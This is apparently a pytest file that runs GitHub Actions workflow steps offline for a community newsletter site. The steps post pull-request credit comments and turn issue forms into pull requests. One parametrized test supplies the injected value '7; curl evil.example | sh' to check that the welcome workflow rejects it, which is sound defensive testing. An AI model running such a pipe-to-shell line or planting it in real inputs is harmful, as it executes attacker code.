"""The workflows' scripts, run offline as GitHub Actions runs them: each step's `env:` evaluated
from an event payload (the fixtures, in GitHub's documented shapes), its `run:` executed by
bash with the same options, git pushing to a local bare repository that stands in for GitHub,
and a stand-in `gh` (tests/fake_gh.py) that records every call and refuses any it does not
know. What the steps leave behind is what the next job, or GitHub, would receive."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from tests.conftest import REPO, copy_project
from tests.test_welcome import git, with_branch, write

EVENTS = REPO / "tests" / "fixtures" / "github-events"
WORKFLOWS = REPO / ".github" / "workflows"
EXPRESSION = re.compile(r"\$\{\{\s*(.+?)\s*\}\}")
BOT = "41898282+github-actions[bot]@users.noreply.github.com"
REPOSITORY = "commons-circle/newsletter"


def payload(name: str) -> dict:
    """An event payload fixture."""
    return json.loads((EVENTS / name).read_text(encoding="utf-8"))


def lookup(path: str, context: dict) -> object:
    """A dotted path in the expression context; None where GitHub would give null."""
    node: object = context
    for part in path.split("."):
        if not isinstance(node, dict) or part not in node:
            return None
        node = node[part]
    return node


def evaluate(text: str, context: dict) -> str:
    """A value with its `${{ }}` expressions filled in: paths, and `a || b`, as GitHub does
    (null and '' count as false); any other expression is an error of the test."""

    def value(match: re.Match) -> str:
        for alternative in match[1].split("||"):
            path = alternative.strip()
            assert re.fullmatch(r"[a-z_]+(\.[\w-]+)+", path), f"not a path: {path}"
            found = lookup(path, context)
            if found not in (None, "", False):
                return str(found)
        return ""

    return EXPRESSION.sub(value, text)


@dataclass
class Ran:
    """What a step did: its exit code, what it printed, and the outputs it set."""

    code: int
    stdout: str
    stderr: str
    outputs: dict[str, str]


class Runner:
    """One runner machine: a temporary folder, a fake GitHub for gh, the event it handles."""

    def __init__(self, root: Path, event: str, event_file: str, **github: object):
        self.root = root
        self.temp = root / "runner-temp"
        self.temp.mkdir(parents=True)
        self.bin = root / "bin"
        self.bin.mkdir()
        fake = Path(__file__).with_name("fake_gh.py")
        (self.bin / "gh").write_text(f'#!/bin/sh\nexec "{sys.executable}" "{fake}" "$@"\n')
        (self.bin / "gh").chmod(0o755)
        self.state = root / "gh-state.json"
        self.state.write_text(json.dumps({"pulls": [], "calls": []}))
        self.event_path = EVENTS / event_file
        self.context = {
            "github": {
                "event": payload(event_file),
                "event_name": event,
                "repository": REPOSITORY,
                "server_url": "https://github.com",
                "run_id": "11987654399",
                "token": "ghs_test_token",
            },
            "runner": {"temp": str(self.temp)},
            "needs": {},
        }
        self.context["github"].update(github)

    def gh(self) -> dict:
        """What the fake GitHub holds: pull requests, and every call made."""
        return json.loads(self.state.read_text())

    def step(self, workflow: str, job: str, name: str, cwd: Path) -> Ran:
        """Run one step's script as the runner would, in cwd."""
        data = yaml.safe_load((WORKFLOWS / workflow).read_text())
        (step,) = [s for s in data["jobs"][job]["steps"] if s.get("name") == name]
        declared = step.get("env", {})
        env = {key: evaluate(str(value), self.context) for key, value in declared.items()}
        outputs, summary = self.root / "output", self.root / "summary"
        outputs.write_text("")
        script = self.root / "step.sh"
        script.write_text(step["run"])
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
            cwd=cwd,
            env={
                "PATH": f"{self.bin}:{Path(sys.executable).parent}:/usr/bin:/bin",
                "HOME": str(self.root),
                "GIT_CONFIG_NOSYSTEM": "1",
                "GITHUB_OUTPUT": str(outputs),
                "GITHUB_STEP_SUMMARY": str(summary),
                "GITHUB_EVENT_PATH": str(self.event_path),
                "RUNNER_TEMP": str(self.temp),
                "GH_STATE": str(self.state),
                **env,
            },
            capture_output=True,
            text=True,
        )
        found = dict(line.split("=", 1) for line in outputs.read_text().splitlines() if line)
        return Ran(done.returncode, done.stdout, done.stderr, found)


# --- check.yml and welcome.yml: the comment on a pull request from a fork --------------------


def example(where: Path) -> Path:
    """The example community, its day fixed (the plugin's `today`) so every run reads alike."""
    project = copy_project(where)
    config = project / "mkdocs.yml"
    config.write_text(
        config.read_text().replace("  - polyvox\n", "  - polyvox:\n      today: 2026-11-22\n")
    )
    return project


def merge_checkout(root: Path) -> Path:
    """What actions/checkout gives a pull_request run: the merge commit of the pull request
    into its base (refs/pull/7/merge), whose first parent is the base."""
    work = with_branch(example(root / "work"), "first-piece")
    git(work, "checkout", "-q", "main")
    git(work, "merge", "-q", "--no-ff", "first-piece", "-m", "Merge 4f1c2b9 into 0a9b8c7")
    return work


def test_the_check_run_prepares_the_comment_of_a_pull_request_from_a_fork(tmp_path):
    """The step reads the pull request's number and author from the pull_request payload and
    writes the comment from the merge commit and its base: Noa, the author, is welcomed."""
    work = merge_checkout(tmp_path)
    runner = Runner(tmp_path, "pull_request", "pull_request-opened.json")
    name = "What this pull request adds to the credits (the welcome workflow posts it)"
    ran = runner.step("check.yml", "check", name, work)
    assert ran.code == 0, ran.stderr
    folder = work / "polyvox-comment"
    assert (folder / "pull-request").read_text() == "7\n"
    comment = (folder / "comment.md").read_text()
    assert comment.startswith("<!-- polyvox:credits -->\n### What this pull request adds")
    assert "> Welcome, @noa: this is your first piece in Commons Circle." in comment
    run_url = f"https://github.com/{REPOSITORY}/actions/runs/11987654399"
    assert comment.endswith(
        f"<sub>[The site as it will be: the site-preview artifact of this workflow run]({run_url})"
        "</sub>\n"
    )


def test_the_check_run_on_main_writes_the_listening_report_into_the_job_summary(tmp_path):
    """On a push to main, the report goes where GitHub shows it: the job summary."""
    work = merge_checkout(tmp_path)
    runner = Runner(tmp_path, "push", "pull_request-opened.json")
    ran = runner.step("check.yml", "check", "The listening report, for editors", work)
    assert ran.code == 0, ran.stderr
    summary = (tmp_path / "summary").read_text()
    assert summary.startswith("## Listening report: issue 4, “What we keep”\n")
    site = "https://commons-circle.example.org/contributors"
    # Kai asks on 20 November, Noa's piece is in the issue of the 30th, Sam is the guest of the
    # session of 3 December that the issue features: three first acts anywhere
    assert (
        f"- In this issue: [Kai]({site}/kai/), [Noa Levi]({site}/noa-levi/), "
        f"[Sam Whitfield]({site}/sam-whitfield/)\n"
    ) in summary
    assert runner.gh()["calls"] == []


def welcome(tmp_path: Path, number: str, comment: str, head: str) -> tuple[Ran, dict]:
    """Run the welcome workflow's step on an artifact, with a pull request 7 whose head is
    `head`; what it did, and what the fake GitHub saw."""
    runner = Runner(tmp_path, "workflow_run", "workflow_run-completed.json")
    artifact = runner.temp / "polyvox-comment"
    write(artifact, {"pull-request": number, "comment.md": comment})
    state = {"pulls": [{"number": 7, "head": "first-piece", "headRefOid": head}], "calls": []}
    runner.state.write_text(json.dumps(state))
    ran = runner.step(
        "welcome.yml", "comment", "Post the comment, or update the one posted before", tmp_path
    )
    return ran, runner.gh()


HEAD = "4f1c2b9e8d7a6f5e4d3c2b1a09f8e7d6c5b4a392"


def test_the_welcome_workflow_posts_the_comment_once_and_updates_it(tmp_path):
    """The comment goes on pull request 7 (the number the artifact gives, whose head is the
    commit the check ran on), editing the workflow's last comment there or making the first."""
    ran, github = welcome(tmp_path, "7\n", "<!-- polyvox:credits -->\nHello\n", HEAD)
    assert ran.code == 0, ran.stderr
    calls = [call["args"] for call in github["calls"]]
    assert calls == [
        ["pr", "view", "7", "--json", "headRefOid", "--jq", ".headRefOid"],
        [
            "pr",
            "comment",
            "7",
            "--edit-last",
            "--create-if-none",
            "--body-file",
            str(tmp_path / "runner-temp/polyvox-comment/comment.md"),
        ],
    ]
    assert github["calls"][1]["body"] == "<!-- polyvox:credits -->\nHello\n"
    assert {call["repo"] for call in github["calls"]} == {REPOSITORY}


@pytest.mark.parametrize(
    ("number", "head", "error"),
    [
        ("7; curl evil.example | sh\n", HEAD, "::error::not a pull request number: 7; curl"),
        ("8\n", HEAD, "fake gh: no answer to ['pr', 'view', '8'"),
        ("7\n", "0" * 40, f"::error::pull request #7 is at {'0' * 40}, not at {HEAD}"),
    ],
)
def test_the_welcome_workflow_refuses_an_artifact_that_names_another_pull_request(
    tmp_path, number, head, error
):
    """The artifact comes from a run of the pull request's code: a number that is not one, or
    a pull request whose head is not the commit that was checked, gets nothing posted."""
    ran, github = welcome(tmp_path, number, "<!-- polyvox:credits -->\nHello\n", head)
    assert ran.code == 1
    assert error in ran.stdout + ran.stderr
    assert not [call for call in github["calls"] if call["args"][1] == "comment"]


def test_the_welcome_workflow_says_nothing_when_content_is_unchanged(tmp_path):
    """An empty comment (the pull request leaves content/ as it is): no call at all."""
    ran, github = welcome(tmp_path, "7\n", "", HEAD)
    assert ran.code == 0 and github["calls"] == []
    assert "leaves content/ as it is" in ran.stdout


# --- submit.yml: an issue form becomes a pull request ----------------------------------------


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    """A bare repository standing in for the community's repository on GitHub."""
    seed = example(tmp_path / "seed")
    git(seed, "init", "-q", "-b", "main")
    git(seed, "add", "-A")
    git(seed, "commit", "-qm", "The example community")
    bare = tmp_path / "origin.git"
    git(tmp_path, "clone", "-q", "--bare", str(seed), str(bare))
    return bare


def checkout(origin: Path, where: Path) -> Path:
    """What actions/checkout gives an issues run: the default branch, full history."""
    git(origin.parent, "clone", "-q", str(origin), str(where))
    return where


def read_job(tmp_path: Path, origin: Path, event_file: str) -> Runner:
    """Run the 'read' job's step for an issues event; the runner holds its submission."""
    runner = Runner(tmp_path / event_file.removesuffix(".json"), "issues", event_file)
    work = checkout(origin, runner.root / "read")
    ran = runner.step("submit.yml", "read", "Make the files, or the list of what to change", work)
    assert ran.code == 0, ran.stderr
    runner.outcome = ran.outputs["outcome"]  # type: ignore[attr-defined]
    return runner


def publish(runner: Runner, origin: Path, github: dict | None = None) -> Ran:
    """Run the 'pull-request' job's step on a fresh checkout, with the read job's artifact."""
    if github is not None:
        runner.state.write_text(json.dumps(github))
    work = checkout(origin, runner.root / f"publish-{len(list(runner.root.glob('publish-*')))}")
    name = "Commit the files on the issue's branch, open or update its pull request"
    return runner.step("submit.yml", "pull-request", name, work)


def branch_log(origin: Path, branch: str = "polyvox/issue-12") -> list[str]:
    """Author, committer and subject of each commit on a branch of origin, newest first."""
    out = git(origin, "log", "--format=%an <%ae>|%cn <%ce>|%s", f"main..{branch}")
    return out.splitlines()


def test_an_issue_form_becomes_a_pull_request_by_its_author(tmp_path, origin):
    """read: Polyvox makes the files with a read-only token; pull-request: git commits them as
    Noa's, on polyvox/issue-12, and gh opens the pull request, then posts its welcome; reply:
    the issue is told where its pull request is."""
    runner = read_job(tmp_path, origin, "issues-opened.json")
    assert runner.outcome == "pull-request"
    ran = publish(runner, origin)
    assert ran.code == 0, ran.stderr
    assert branch_log(origin) == [
        f"noa-levi <5832147+noa-levi@users.noreply.github.com>|github-actions[bot] <{BOT}>|"
        "Piece: What the archive forgets"
    ]
    message = git(origin, "log", "-1", "--format=%B", "polyvox/issue-12")
    assert message.endswith(
        "Co-authored-by: Priya Raman <priyaraman@users.noreply.github.com>\n"
        "Co-authored-by: Amara Okafor <amaraokafor@users.noreply.github.com>"
    )
    changed = git(origin, "diff", "--name-only", "main", "polyvox/issue-12").splitlines()
    assert changed == [
        "content/contributors/noa-levi.md",
        "content/issues/2026-11/what-the-archive-forgets.md",
    ]
    github = runner.gh()
    calls = [call["args"][:3] for call in github["calls"]]
    assert calls == [
        ["pr", "list", "--head"],
        ["pr", "create", "--base"],
        ["pr", "list", "--head"],
        ["pr", "comment", "31"],
        ["pr", "view", "31"],
    ]
    create = github["calls"][1]
    assert create["args"][3:9] == [
        "main",
        "--head",
        "polyvox/issue-12",
        "--title",
        "Piece: What the archive forgets",
        "--body-file",
    ]
    assert create["body"].startswith("Closes #12.\n")
    assert github["calls"][3]["body"].startswith("<!-- polyvox:credits -->\n")
    assert ran.outputs == {"url": f"https://github.com/{REPOSITORY}/pull/31"}

    runner.context["needs"] = {"pull-request": {"outputs": ran.outputs}}
    replied = runner.step("submit.yml", "reply", "Say on the issue what became of it", tmp_path)
    assert replied.code == 0, replied.stderr
    (comment,) = runner.gh()["calls"][5:]
    assert comment["args"][:5] == ["issue", "comment", "12", "--edit-last", "--create-if-none"]
    assert comment["body"].startswith("Thank you, @noa-levi! Your piece “What the archive")
    assert comment["body"].endswith(f"\n\nhttps://github.com/{REPOSITORY}/pull/31\n")


def test_editing_the_issue_updates_the_branch_and_the_pull_request(tmp_path, origin):
    """The edited title makes a new file in place of the old one, on the same branch and the
    same pull request, which gets the new title."""
    first = read_job(tmp_path, origin, "issues-opened.json")
    assert publish(first, origin).code == 0
    edited = read_job(tmp_path, origin, "issues-edited.json")
    ran = publish(edited, origin, github=first.gh())
    assert ran.code == 0, ran.stderr
    changed = git(origin, "diff", "--name-only", "main", "polyvox/issue-12").splitlines()
    assert changed[1] == "content/issues/2026-11/what-our-archive-forgets.md"
    assert len(branch_log(origin)) == 1
    calls = edited.gh()["calls"][len(first.gh()["calls"]) :]
    assert [call["args"][:3] for call in calls] == [
        ["pr", "list", "--head"],
        ["pr", "edit", "31"],
        ["pr", "comment", "31"],
        ["pr", "view", "31"],
    ]
    assert calls[1]["args"][3:5] == ["--title", "Piece: What our archive forgets"]


def test_an_editor_s_commit_on_the_branch_is_never_overwritten(tmp_path, origin):
    """Once an editor has pushed to the issue's branch, an edit of the issue changes nothing
    there: the step says so, and the reply asks the author to say it in the pull request."""
    first = read_job(tmp_path, origin, "issues-opened.json")
    assert publish(first, origin).code == 0
    editor = checkout(origin, tmp_path / "editor")
    git(editor, "checkout", "-q", "polyvox/issue-12")
    piece = editor / "content/issues/2026-11/what-the-archive-forgets.md"
    piece.write_text(piece.read_text().replace("eleven years", "eleven long years"))
    git(editor, "commit", "-qam", "A word")
    git(editor, "push", "-q", "origin", "polyvox/issue-12")
    before = branch_log(origin)
    edited = read_job(tmp_path, origin, "issues-edited.json")
    ran = publish(edited, origin, github=first.gh())
    assert ran.code == 0, ran.stderr
    assert ran.outputs == {"kept": "true"}
    assert branch_log(origin) == before
    assert edited.gh()["calls"] == first.gh()["calls"]
    edited.context["needs"] = {"pull-request": {"outputs": ran.outputs}}
    replied = edited.step("submit.yml", "reply", "Say on the issue what became of it", tmp_path)
    assert replied.code == 0
    assert edited.gh()["calls"][-1]["body"].startswith(
        "Thank you, @noa-levi. An editor has already changed the pull request"
    )


def test_a_refused_submission_is_a_comment_and_no_branch(tmp_path, origin):
    """A form with hostile HTML: the read job says 'problems', no branch is pushed, and the
    reply lists what to change."""
    hostile = (REPO / "tests/fixtures/issue-forms/piece-hostile.md").read_text()
    event = payload("issues-opened.json")
    event["issue"]["body"] = hostile.removesuffix("\n")
    (tmp_path / "hostile.json").write_text(json.dumps(event))
    runner = Runner(tmp_path / "run", "issues", "issues-opened.json")
    runner.event_path = tmp_path / "hostile.json"
    work = checkout(origin, runner.root / "read")
    ran = runner.step("submit.yml", "read", "Make the files, or the list of what to change", work)
    assert ran.outputs == {"outcome": "problems"}
    assert git(origin, "branch", "--list", "polyvox/*") == ""
    replied = runner.step("submit.yml", "reply", "Say on the issue what became of it", tmp_path)
    assert replied.code == 0
    (call,) = runner.gh()["calls"]
    assert "- **Co-authors**: “zed-nobody” is not a member" in call["body"]
